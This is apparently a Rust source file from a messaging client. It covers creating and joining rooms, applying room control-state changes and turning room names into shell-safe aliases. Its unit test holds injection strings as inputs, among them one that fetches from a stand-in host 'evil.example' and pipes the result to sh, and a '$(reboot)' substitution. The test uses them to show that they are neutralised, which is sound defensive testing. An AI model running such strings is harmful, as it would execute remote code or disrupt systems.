//! Getting into rooms and out of their ways: making one, joining one by link, and what follows for us when a room's
//! control state changes.

use crate::ingest::Verdict;
use crate::keys::random;
use crate::local::NewRoom;
use crate::refusal::{Refusal, refusal};
use crate::text::is_one_visible_line;
use crate::writer::{Desk, Origin, Stored};
use tidings_protocol::codec::encode;
use tidings_protocol::content::Content;
use tidings_protocol::control::payload::{Control, Genesis, Join, RoomKind, Set};
use tidings_protocol::control::rank::Rank;
use tidings_protocol::control::state::RoomState;
use tidings_protocol::control::state::Void;
use tidings_protocol::event::SignedEvent;
use tidings_protocol::id::RoomId;
use tidings_protocol::limits::NAME_LEN_MAX;
use tidings_protocol::link::{InviteLink, RoomLink};
use tidings_storage::{PendingJoin, RoomNumber, RoomRow, StorageError};

impl Desk<'_, '_> {
    pub(crate) fn create(&mut self, new: NewRoom) -> Result<Result<RoomId, Refusal>, StorageError> {
        if !is_good_name(&new.name) {
            return Ok(Err(Refusal::BadName(new.name)));
        }
        let secret = if new.kind == RoomKind::Public { [0; 32] } else { random() };
        let genesis = Control::Genesis(Genesis {
            kind: new.kind,
            founders: vec![self.keys.user],
            invite_rank: new.invite_rank,
            secret,
            certificate: self.keys.device().certificate.clone(),
        });
        let event = match self.root(RoomId::ZERO, &genesis) {
            Ok(event) => event,
            Err(refusal) => return Ok(Err(refusal)),
        };
        let room = event.room();
        self.add_room(RoomRow { alias: self.free_alias(&new.name)?, ..RoomRow::new(room, new.kind, secret) })?;
        let admitted = self.admit(room, &[event], Origin::Local)?;
        if let Some(refusal) = refusal(admitted.verdict) {
            return Ok(Err(refusal));
        }
        let name = Set { key: "name".into(), value: new.name, replaces: Vec::new() };
        Ok(self.rule(room, &Control::Set(name))?.map(|_| room))
    }

    pub(crate) fn join(&mut self, link: &RoomLink) -> Result<Result<RoomId, Refusal>, StorageError> {
        match link {
            RoomLink::Invite(link) => self.join_by_invite(link),
            RoomLink::Grant(link) => self.join_by_grant(link),
        }
    }

    fn join_by_invite(&mut self, link: &InviteLink) -> Result<Result<RoomId, Refusal>, StorageError> {
        let room = link.room;
        if self.rooms.purges.refuses_room(room) {
            return Ok(Err(Refusal::Purged(room)));
        }
        let join = Join::new(room, link.invite, self.keys.device().certificate.clone(), &link.key);
        let event = match self.root(room, &Control::Join(join)) {
            Ok(event) => event,
            Err(refusal) => return Ok(Err(refusal)),
        };
        let Some(signed) = event.to_signed() else { return Ok(Err(Refusal::UnknownRoom)) };
        let pending = PendingJoin { invite: link.invite, key: *link.key.seed(), join: encode(&signed) };
        let Some(live) = self.rooms.find(room) else {
            let row = RoomRow::new(room, link.kind, link.secret);
            self.add_room(RoomRow { pending: Some(pending), addresses: link.addresses.clone(), ..row })?;
            return Ok(Ok(room));
        };
        if room == self.keys.self_room() || live.state.grant_of(self.keys.device().id()).is_some() {
            return Ok(Ok(room));
        }
        self.change_row(room, |row| {
            // Somebody may have called it their self-room, before or after we heard of it: the link knows better.
            if row.home_of.take().is_some() {
                (row.kind, row.secret) = (link.kind, link.secret);
            }
            row.pending = Some(pending);
            row.left = false;
            row.addresses = link.addresses.clone();
        })?;
        self.round.controlled.insert(room);
        Ok(Ok(room))
    }

    pub(crate) fn change(
        &mut self,
        room: RoomId,
        change: Box<dyn FnOnce(&mut RoomRow) + Send>,
    ) -> Result<Result<(), Refusal>, StorageError> {
        let Some(number) = self.rooms.find(room).map(|r| r.number) else { return Ok(Err(Refusal::UnknownRoom)) };
        let before = self.batch.room(number)?;
        let mut after = before.clone();
        change(&mut after);
        if after.alias != before.alias {
            if !is_good_name(&after.alias) {
                return Ok(Err(Refusal::BadName(after.alias)));
            }
            if self.batch.room_by_alias(&after.alias)?.is_some() {
                return Ok(Err(Refusal::AliasTaken(after.alias)));
            }
        }
        self.change_row(room, |row| *row = after)?;
        Ok(Ok(()))
    }

    /// What follows for us where a room's control state has changed: we are in, it has a name, people should know ours.
    pub(crate) fn follow_up(&mut self) -> Result<(), StorageError> {
        for room in self.round.controlled.clone() {
            let Some(number) = self.rooms.find(room).map(|r| r.number) else { continue };
            let row = self.batch.room(number)?;
            if let Some(pending) = row.pending {
                self.take_up(room, &pending)?;
            }
            let Some(state) = self.rooms.find(room).map(|r| r.state.clone()) else { continue };
            if let Some(kind) = state.kind.filter(|kind| (*kind, state.secret) != (row.kind, row.secret)) {
                // The link told us something else: what the founder signed is what counts.
                self.change_row(room, |row| (row.kind, row.secret) = (kind, state.secret))?;
            }
            if let Some(name) = state.settings.get("name").filter(|_| row.alias.is_empty() && row.home_of.is_none()) {
                let alias = self.free_alias(name)?;
                self.change_row(room, |row| row.alias = alias)?;
            }
            self.enrol_where_due(room, number, &state)?;
            let Some(state) = self.rooms.find(room).map(|r| r.state.clone()) else { continue };
            self.introduce(room, number, &state)?;
        }
        Ok(())
    }

    fn take_up(&mut self, room: RoomId, pending: &PendingJoin) -> Result<(), StorageError> {
        let Some(join) = SignedEvent::decode(&pending.join).ok().and_then(|e| e.verify().ok()) else { return Ok(()) };
        let admitted = self.admit(room, &[join], Origin::Local)?;
        match admitted.verdict {
            Verdict::Stored | Verdict::Known => self.change_row(room, |row| row.pending = None),
            Verdict::Void(Void::Closed | Void::Invite) => self.change_row(room, |row| {
                row.pending = None;
                row.left = true;
            }),
            // An Enrol under a grant that does not count any more: another device may name a better one.
            Verdict::Void(_) if pending.key == [0; 32] => self.change_row(room, |row| row.pending = None),
            _ => Ok(()),
        }
    }

    /// Tells the room what to call us, and those who are in it with us where our devices are listed.
    fn introduce(&mut self, room: RoomId, number: RoomNumber, state: &RoomState) -> Result<(), StorageError> {
        let may = state.grant_of(self.keys.device().id()).is_some_and(|(_, rank)| rank <= Rank::MEMBER);
        let store = self.batch.store();
        let told = store.profile_name(number, self.keys.user)?.unwrap_or_default();
        let told_home = store.profile_home(number, self.keys.user)?;
        let home = self.home_for(state.kind);
        // A device that does not know its user's name yet leaves the one that another told.
        let name = if self.name.is_empty() { told.clone() } else { self.name.clone() };
        if may && (name != told || (home.is_some() && home != told_home)) {
            drop(self.say(room, &Content::Profile { name, home })?);
        }
        Ok(())
    }

    /// The self-room to name in a room of this kind: the world need not know whose devices speak in public.
    pub(crate) fn home_for(&self, kind: Option<RoomKind>) -> Option<RoomId> {
        kind.filter(|kind| *kind != RoomKind::Public).map(|_| self.keys.self_room())
    }

    pub(crate) fn add_room(&mut self, row: RoomRow) -> Result<(), StorageError> {
        let room = row.room;
        let number = self.batch.add_room(row)?;
        self.rooms.add(room, number);
        self.tell_changed(room);
        Ok(())
    }

    pub(crate) fn change_row(&mut self, room: RoomId, change: impl FnOnce(&mut RoomRow)) -> Result<(), StorageError> {
        if let Some(number) = self.rooms.find(room).map(|r| r.number) {
            let before = self.batch.room(number)?.read_clock;
            self.batch.change_room(number, change)?;
            let read_clock = self.batch.room(number)?.read_clock;
            if read_clock != before {
                self.rooms.tally_read(room, read_clock);
            }
            self.rooms.changed(room);
            self.tell_changed(room);
        }
        Ok(())
    }

    /// Nothing is missing any more of what says who may do what in a room.
    pub(crate) fn be_sure(&mut self, room: RoomId) -> Result<(), StorageError> {
        if let Some(number) = self.rooms.find(room).map(|r| r.number).filter(|_| self.rooms.is_unsure(room)) {
            self.batch.put_unsure(number, false)?;
            self.rooms.set_sure(room);
            self.round.controlled.insert(room);
            self.tell_changed(room);
        }
        Ok(())
    }

    pub(crate) fn tell_changed(&mut self, room: RoomId) {
        self.round.notices.push(Stored { room_changed: true, ..Stored::nothing(room) });
    }

    pub(crate) fn free_alias(&self, name: &str) -> Result<String, StorageError> {
        let base = typeable(name).filter(|plain| is_good_name(plain)).unwrap_or_else(|| "room".to_owned());
        let mut alias = base.clone();
        let mut n = 1;
        while self.batch.room_by_alias(&alias)?.is_some() {
            n += 1;
            alias = format!("{base}-{n}");
        }
        Ok(alias)
    }
}

impl Stored {
    /// News of a room in which nothing is new, to be filled in.
    pub(crate) fn nothing(room: RoomId) -> Self {
        let (numbers, changed) = (Vec::new(), Vec::new());
        Stored { room, numbers, origin: Origin::Local, room_changed: false, changed, turned: false, only: None }
    }
}

/// A room's name as one word that a shell takes as it is: people copy commands with it.
pub(crate) fn typeable(name: &str) -> Option<String> {
    let is_plain = |c: char| c.is_alphanumeric() || "-_.+".contains(c);
    let plain: String = name.chars().map(|c| if is_plain(c) { c } else { '-' }).collect();
    let plain = plain.trim_matches(['-', '.']);
    (!plain.is_empty()).then(|| plain.to_owned())
}

/// Whether a room may be called so: not empty, not longer than a name, not what an id looks like.
pub fn is_good_name(name: &str) -> bool {
    let is_short = !name.is_empty() && name.len() <= NAME_LEN_MAX && name.trim() == name;
    is_short && is_one_visible_line(name) && name.parse::<RoomId>().is_err()
}

#[cfg(test)]
mod tests {
    use super::typeable;

    #[test]
    fn a_rooms_name_becomes_a_word_that_no_shell_reads_into() {
        for (name, word) in [
            ("zig", Some("zig")),
            ("the lab", Some("the-lab")),
            ("x;curl${IFS}evil.example|sh;", Some("x-curl--IFS-evil.example-sh")),
            ("--home=/tmp", Some("home--tmp")),
            ("Küche 2", Some("Küche-2")),
            ("$(reboot)", Some("reboot")),
            ("&&", None),
        ] {
            assert_eq!(typeable(name).as_deref(), word, "{name}");
        }
    }
}
